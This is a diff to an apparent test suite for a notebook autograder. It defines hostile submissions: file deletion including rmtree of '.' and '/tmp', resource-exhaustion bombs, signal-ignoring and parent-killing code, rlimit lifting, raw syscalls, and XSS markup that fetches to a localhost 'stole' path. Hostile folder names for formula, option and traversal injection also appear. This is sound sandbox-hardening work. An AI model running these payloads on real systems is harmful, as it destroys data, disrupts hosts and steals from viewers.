@@ -5,6 +5,7 @@ and allocates within bounds, and ends no process but those that the test started
 """
 
 import os
+import textwrap
 from collections.abc import Callable
 from pathlib import Path
 
@@ -13,8 +14,9 @@ from . import course
 ENTRIES: list[course.Entry] = []
 ANY = r"\w+ \w+"
 LINK = r"(?i)link"
-STOPPED = r"(?i)second|time|stopped|killed|ended|died|exit|crash|lost|memory|process"
+STOPPED = r"(?i)second|time|longer than|stopped|killed|ended|died|exit|crash|lost|memory|process"
 MEMORY = r"(?i)memory|killed|process|ended|stopped"
+UNSAFE = ["...", "..\\plain"]  # folders that a student may not have: left alone, and named
 NOTHING, FULL = course.nothing(), course.full()
 
 
@@ -23,15 +25,23 @@ def add(name: str, about: str, content, points: dict, note: str | None = None, *
     ENTRIES.append(course.Entry(name, about, content, points, note, "harm", **more))
 
 
-def harms(name: str, about: str, code: str, note: str | None = None, **more) -> None:
-    """An attack in a cell of its own among right answers, which keep their points."""
-    add(name, about, course.honest(first=[code]), FULL, note, **more)
+def harms(name: str, about: str, *codes: str) -> None:
+    """Attacks in cells of their own among right answers, which keep their points."""
+    add(name, about, course.honest(first=list(codes)), FULL)
 
 
-def falls(name: str, about: str, code: str, note: str | None = None, **more) -> None:
-    """An attack in the body of the last answer, which is lost; the others keep their points."""
-    body = "def standardize(x):\n" + "".join(f"    {line}\n" for line in code.splitlines())
-    add(name, about, course.honest(standardize=body), course.without("standardize"), note, **more)
+def falls(name: str, about: str, code: str = "", note: str | None = None, **others: str) -> None:
+    """An attack in the body of the last answer, or of several, which are lost; the others keep their points."""
+    codes = others | ({"standardize": code} if code else {})
+    answers = {answer: HEADS[answer] + "\n" + textwrap.indent(body, "    ") for answer, body in codes.items()}
+    add(name, about, course.honest(**answers), course.without(*answers), note)
+
+
+HEADS = {
+    "sampler": "def sample_exponential(n, rate=1.0):",
+    "rows": "def row_distances(x, center):",
+    "standardize": "def standardize(x):",
+}
 
 
 # ------------------------------------------------------------------------------------ spies
@@ -166,8 +176,8 @@ for place in map(os.path.abspath, places + glob.glob("<<out>>/*") + glob.glob("<
             print(error)"""
 add("writes-results", "Writes results for itself and for all others.", course.cheat(first=[WRITE]), NOTHING)
 harms(
-    "writes-libraries",
-    "Leaves marked files where Python and the shell look for code.",
+    "writes-and-removes",
+    "Leaves marked files where Python looks for code; removes, truncates, renames and links what it can reach.",
     """\
 import os, site, sys
 import numpy, torch
@@ -178,10 +188,6 @@ for folder in {*sys.path, *site.getsitepackages(), site.getusersitepackages(), o
             file.write("# nothing")
     except OSError as error:
         print(error)""",
-)
-harms(
-    "removes-files",
-    "Removes, truncates, renames and opens up what lies in the canary folder, the results and the submissions.",
     """\
 import os, shutil
 for folder in ("<<canary>>", "<<out>>", "<<submitted>>/plain", "<<solutions>>"):
@@ -193,10 +199,6 @@ for folder in ("<<canary>>", "<<out>>", "<<submitted>>/plain", "<<solutions>>"):
                 act()
             except OSError as error:
                 print(error)""",
-)
-harms(
-    "removes-own-folder",
-    "Removes its working folder and the folder for temporary files.",
     "import os, shutil\nif not os.path.exists('<<root>>'):\n"
     "    shutil.rmtree('.', ignore_errors=True)\n    shutil.rmtree('/tmp', ignore_errors=True)",
 )
@@ -220,18 +222,14 @@ def shadow(folder: Path, place: course.Place) -> None:
         (folder / name).write_bytes(place.fill(text.encode()))
 
 
-add("shadows-beside", "Modules under the names of libraries beside the notebook.", course.honest(), FULL, lay=shadow)
-add(
-    "shadows-at-work",
-    "Writes modules under the names of libraries into its working folder and moves it to the front.",
-    course.cheat(
-        first=[
-            f"import os, sys\nfor name, text in {SHADOWS!r}.items():\n    open(name, 'w').write(text)\n"
-            "sys.path[:0] = ['', os.getcwd()]\nos.environ['PYTHONPATH'] = os.getcwd()"
-        ]
-    ),
-    NOTHING,
-)
+def untidy(folder: Path, place: course.Place) -> None:
+    """A folder as students have them, with modules under the names of libraries."""
+    shadow(folder, place)
+    (folder / ".ipynb_checkpoints").mkdir()
+    (folder / ".ipynb_checkpoints" / f"{course.NAME}-checkpoint.ipynb").write_bytes(course.encode(course.cheat()))
+    (folder / "__pycache__").mkdir()
+    (folder / ".DS_Store").write_bytes(bytes(100))
+    (folder / "notes with spaces.txt").write_text("nothing")
 
 
 def forge_beside(folder: Path, place: course.Place) -> None:
@@ -242,7 +240,25 @@ def forge_beside(folder: Path, place: course.Place) -> None:
     (folder / f"{course.NAME}.json").write_text("{}")
 
 
-add("forged-beside", "Results written beside the notebook.", course.cheat(), NOTHING, lay=forge_beside)
+add(
+    "shadows-at-work",
+    "Writes modules under the names of libraries into its working folder; results lie beside the notebook.",
+    course.cheat(
+        first=[
+            f"import os, sys\nfor name, text in {SHADOWS!r}.items():\n    open(name, 'w').write(text)\n"
+            "sys.path[:0] = ['', os.getcwd()]\nos.environ['PYTHONPATH'] = os.getcwd()"
+        ]
+    ),
+    NOTHING,
+    lay=forge_beside,
+)
+add(
+    "untidy-folder",
+    "Checkpoints, caches and shadows of libraries beside the notebook.",
+    course.honest(),
+    FULL,
+    lay=untidy,
+)
 
 
 # ------------------------------------------------------------------------------------ links and odd files
@@ -299,8 +315,8 @@ add("directory", "The notebook is a folder.", None, NOTHING, ANY, lay=directory)
 # ------------------------------------------------------------------------------------ processes
 STAY = 'import ctypes\nctypes.CDLL(None).prctl(15, b"<<marker>>", 0, 0, 0)'  # the process's name becomes the marker
 harms(
-    "daemon",
-    "A child that leaves its session, ignores signals and stays for a minute, marking the canary folder.",
+    "stays",
+    "Processes that leave their session, ignore signals and stay for a minute, marking the canary folder.",
     STAY
     + """
 import os, signal, time
@@ -319,10 +335,6 @@ if os.fork() == 0:
                 pass
             time.sleep(1)
     os._exit(0)""",
-)
-harms(
-    "commands-left",
-    "Commands that stay in the background.",
     """\
 import subprocess
 for command in (["nohup", "sleep", "73<<port>>"], ["sh", "-c", "sleep 73<<port>> & setsid sleep 73<<port>>"]):
@@ -347,18 +359,32 @@ time.sleep(1)
 return children""",
 )
 falls(
-    "thread-bomb",
-    "Three thousand threads.",
-    """\
+    "exhaustion",
+    "Three thousand threads, all file descriptors it can get, fifty thousand empty files.",
+    sampler="""\
 import threading, time
 for _ in range(3000):
     threading.Thread(target=time.sleep, args=(3,), daemon=True).start()""",
+    rows="import os\nkept = []\nfor _ in range(200_000):\n    kept.append(os.open('/dev/null', os.O_RDONLY))",
+    standardize="""\
+import os
+os.makedirs("many", exist_ok=True)
+for i in range(50_000):
+    open(f"many/{i}", "w").close()""",
 )
 falls(
     "memory-bomb",
-    "Six gigabytes.",
-    "import time\nkept = [b'x' * 100_000_000 for _ in range(60)]\ntime.sleep(2)",
-    MEMORY,
+    "Six gigabytes, once more after raising its limits.",
+    note=MEMORY,
+    rows="import time\nkept = [b'x' * 100_000_000 for _ in range(60)]\ntime.sleep(2)",
+    standardize="""\
+import resource, os
+for name in ("RLIMIT_AS", "RLIMIT_NPROC", "RLIMIT_FSIZE", "RLIMIT_CPU", "RLIMIT_NOFILE"):
+    try:
+        resource.setrlimit(getattr(resource, name), (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
+    except (OSError, ValueError) as error:
+        print(error)
+kept = [b"x" * 100_000_000 for _ in range(60)]""",
 )
 falls(
     "memory-in-children",
@@ -410,26 +436,12 @@ for folder in (".", tempfile.gettempdir(), "/dev/shm", "/var/tmp", os.path.expan
                 os.remove(path + str(i))""",
 )
 falls(
-    "inode-bomb",
-    "Fifty thousand empty files.",
-    "import os\nos.makedirs('many', exist_ok=True)\nfor i in range(50_000):\n    open(f'many/{i}', 'w').close()",
-)
-falls(
-    "descriptor-bomb",
-    "All file descriptors it can get.",
-    "import os\nkept = []\nfor _ in range(200_000):\n    kept.append(os.open('/dev/null', os.O_RDONLY))",
-)
-falls("native-loop", "A computation in C that no signal ends.", "return pow(3, 10**9) % 7", STOPPED)
-falls(
-    "regex-loop",
-    "A regular expression that backtracks for ever.",
-    "import re\nreturn re.match('(a+)+$', 'a' * 60 + 'b')",
-    STOPPED,
-)
-falls(
-    "signals-ignored",
-    "Ignores all signals and loops, catching everything.",
-    """\
+    "stubborn-loops",
+    "A computation in C that no signal ends, a regular expression that backtracks for ever, a loop that catches all.",
+    note=STOPPED,
+    sampler="return pow(3, 10**9) % 7",
+    rows="import re\nreturn re.match('(a+)+$', 'a' * 60 + 'b')",
+    standardize="""\
 import signal
 for number in range(1, 65):
     try:
@@ -443,7 +455,14 @@ while True:
             pass
     except BaseException:
         pass""",
-    STOPPED,
+)
+falls(
+    "becomes-another",
+    "Stops its process, becomes a program that stays, becomes a program that ends well.",
+    note=STOPPED,
+    sampler="import os, signal\nos.kill(os.getpid(), signal.SIGSTOP)",
+    rows="import os\nos.execv('/bin/sh', ['sh', '-c', 'sleep 1000'])",
+    standardize="import os\nos.execv('/bin/true', ['true'])",
 )
 falls(
     "c-stack",
@@ -457,16 +476,6 @@ class A:
 A().b""",
     STOPPED,
 )
-falls(
-    "stops-itself",
-    "Stops its process with SIGSTOP.",
-    "import os, signal\nos.kill(os.getpid(), signal.SIGSTOP)",
-    STOPPED,
-)
-falls(
-    "becomes-another", "Becomes another program.", "import os\nos.execv('/bin/sh', ['sh', '-c', 'sleep 1000'])", STOPPED
-)
-falls("becomes-true", "Becomes a program that ends well.", "import os\nos.execv('/bin/true', ['true'])", STOPPED)
 falls(
     "kills-parents",
     "Ends its process group and its parents, if they belong to the grader.",
@@ -483,22 +492,9 @@ except OSError as error:
 os.killpg(0, signal.SIGKILL)""",
     STOPPED,
 )
-falls(
-    "limits-lifted",
-    "Raises its limits, then uses them.",
-    """\
-import resource, os
-for name in ("RLIMIT_AS", "RLIMIT_NPROC", "RLIMIT_FSIZE", "RLIMIT_CPU", "RLIMIT_NOFILE"):
-    try:
-        resource.setrlimit(getattr(resource, name), (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
-    except (OSError, ValueError) as error:
-        print(error)
-kept = [b"x" * 100_000_000 for _ in range(60)]""",
-    MEMORY,
-)
 harms(
     "system-calls",
-    "Namespaces, mounts, tracing, keys, kernel modules and other calls that a notebook does not need.",
+    "Namespaces, mounts, tracing, keys, kernel modules, the terminal and other calls that a notebook does not need.",
     """\
 import ctypes, os
 libc = ctypes.CDLL(None, use_errno=True)
@@ -526,10 +522,6 @@ if inside:
     said["prctl"] = libc.prctl(1, 0, 0, 0, 0)
     said["mknod"] = libc.mknod(b"/tmp/sda", 0o060666, 0x800)
 print(said)""",
-)
-harms(
-    "terminal",
-    "Pushes characters into the terminal, if there is one.",
     """\
 import fcntl, os
 for fd in (0, 1, 2):
@@ -549,6 +541,16 @@ SCRIPT = """</pre></td></table>--><script>fetch("http://127.0.0.1:<<port>>/stole
 <base href="http://127.0.0.1:<<port>>/"><form action="http://127.0.0.1:<<port>>">
 <input autofocus onfocus=alert(1)>&lt;script&gt; {{7*7}} ${7*7} %s {0}"""
 CONTROL = "\\x1b[2J\\x1b]0;owned\\x07\\x1b[31mred \\u202egnp.exe\\u202c \\u2066x\\u2069 \\x00 \\x08 \\r over \\x9b1m"
+WRITTEN = f"{SCRIPT}\n\n[click](javascript:alert(1)) ![](http://127.0.0.1:<<port>>/x.png)"
+
+
+def marked_up(c: dict) -> dict:
+    """A cell with markup wherever a notebook may hold some."""
+    shown = {"output_type": "display_data", "data": {"text/html": SCRIPT}, "metadata": {}}
+    more = {"outputs": [shown]} if c["cell_type"] == "code" else {}
+    return c | {"id": SCRIPT, "attachments": {"x.svg": {"image/svg+xml": SCRIPT}}} | more
+
+
 add(
     "html-printed",
     "Prints and displays markup, scripts and control characters.",
@@ -579,30 +581,13 @@ add(
     course.only("decoder"),
 )
 add(
-    "html-in-answers",
-    "Markup in written answers.",
-    course.honest(
-        reading=f"{SCRIPT}\n\n[click](javascript:alert(1)) ![](http://127.0.0.1:<<port>>/x.png)",
-        experiment=f"# {SCRIPT!r}",
-    ),
-    FULL,
-)
-add(
     "html-in-notebook",
-    "Markup in outputs, attachments, ids and metadata.",
-    course.honest()
-    | {
+    "Markup in written answers, outputs, attachments, ids and metadata.",
+    {
+        "nbformat": 4,
+        "nbformat_minor": 5,
         "metadata": {"title": SCRIPT, "kernelspec": {"name": SCRIPT, "display_name": SCRIPT, "language": "python"}},
-        "cells": [
-            c
-            | {"id": SCRIPT, "attachments": {"x.svg": {"image/svg+xml": SCRIPT}}}
-            | (
-                {"outputs": [{"output_type": "display_data", "data": {"text/html": SCRIPT}, "metadata": {}}]}
-                if "outputs" in c
-                else {}
-            )
-            for c in course.honest()["cells"]
-        ],
+        "cells": [marked_up(c) for c in course.honest(reading=WRITTEN, experiment=f"# {SCRIPT!r}")["cells"]],
     },
     FULL,
 )
@@ -616,23 +601,21 @@ add(
     NOTHING,
 )
 for name, student in {
+    "folder-html": "<img src=x onerror=alert(1)>",
     "folder-quotes": "\"'`--><b>{{7*7}}${7*7}%s&amp;",
     "folder-formula-at": "@SUM(1+1)*cmd|' C'!A0",
     "folder-minus": "-force",
     "folder-option": "--jobs=9",
     "folder-plus": '+1, "2"; 3',
     "folder-control": "a\x1b[2Jb\u202ec",
-    "folder-dots": "...",
     "folder-percent": "%2e%2e%2fplain",
-    "folder-backslash": "..\\plain",
     "folder-long": "x" * 200,
     "folder-space": " ",
     "folder-latin": os.fsdecode(b"caf\xe9"),
 }.items():
     add(name, f"The student's folder is called {student[:40]!a}.", b"[]", NOTHING, ANY, student=student)
 for name, student in {
-    "folder-html": "<img src=x onerror=alert(1)>",
-    "folder-formula": "=1+1",
     "folder-newline": "evil\nname,1000\r\nplain,0",
+    "folder-formula": "=1+1",
 }.items():
     add(name, f"The student's folder is called {student!a}.", course.honest(), FULL, student=student)
